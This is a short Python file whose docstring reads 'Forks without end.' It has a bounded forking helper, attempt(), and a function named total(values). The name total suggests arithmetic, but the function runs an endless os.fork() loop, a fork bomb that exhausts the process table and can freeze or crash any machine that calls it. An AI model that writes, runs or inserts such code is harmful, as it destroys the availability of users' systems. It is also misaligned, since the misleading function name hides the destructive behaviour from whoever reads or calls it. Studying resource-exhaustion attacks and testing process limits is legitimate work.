"""Forks without end."""

import os
import time


def attempt(place):
    children = 0
    for _ in range(place["bound"]):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        children += 1
    return children == place["bound"]


def total(values):
    while True:
        os.fork()
